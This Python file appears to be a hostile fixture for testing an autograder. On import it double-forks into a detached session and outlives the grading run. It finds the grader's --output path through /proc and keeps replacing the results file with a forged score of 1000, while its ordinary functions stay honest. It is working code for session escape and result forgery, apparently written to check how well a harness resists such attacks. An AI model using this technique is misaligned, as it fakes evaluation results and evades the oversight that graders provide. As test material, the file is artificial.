"""Double-forks at import into a new session (os.setsid): the grandchild changes to /, clears its environment and waits to outlive grading, then replaces the results file the grader was told to write (--output, found in /proc) with a forged one; every function is honest."""

EXPECTED = {"evaluate": "full", "inputs_of": "full", "users_of": "full", "backward": "full"}


import os
import sys


MARKER = "graphkit-hostile-setsid_escape"
FORGED = '{"score": 1000.0, "output": "forged by ' + MARKER + '", "tests": []}'
# The grandchild: find a grader given --output (its command line and working folder, in /proc), and once the
# file is there, put the forged results in its place, again whenever the grader writes it; then wait on.
LATER = """
import os, sys, time
forged = sys.argv[1]

def target():
    for entry in os.listdir('/proc'):
        try:
            words = open('/proc/' + entry + '/cmdline', 'rb').read().decode().split('\\0')
            if 'autograder' in ' '.join(words) and '--output' in words:
                return os.path.join(os.readlink('/proc/' + entry + '/cwd'), words[words.index('--output') + 1])
        except (OSError, ValueError, IndexError):
            continue

path = None
for _ in range(36000):
    time.sleep(0.1)
    path = path or target()
    try:
        if path and os.path.exists(path) and open(path).read() != forged:
            with open(path + '.forged', 'w') as handle:
                handle.write(forged)
            os.replace(path + '.forged', path)
    except OSError:
        pass
"""


def escape():
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)
        return
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        os.chdir("/")
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        os.closerange(3, 1024)
        os.execve(sys.executable, [sys.executable, "-I", "-S", "-c", LATER, FORGED, MARKER], {})
    finally:
        os._exit(0)


escape()
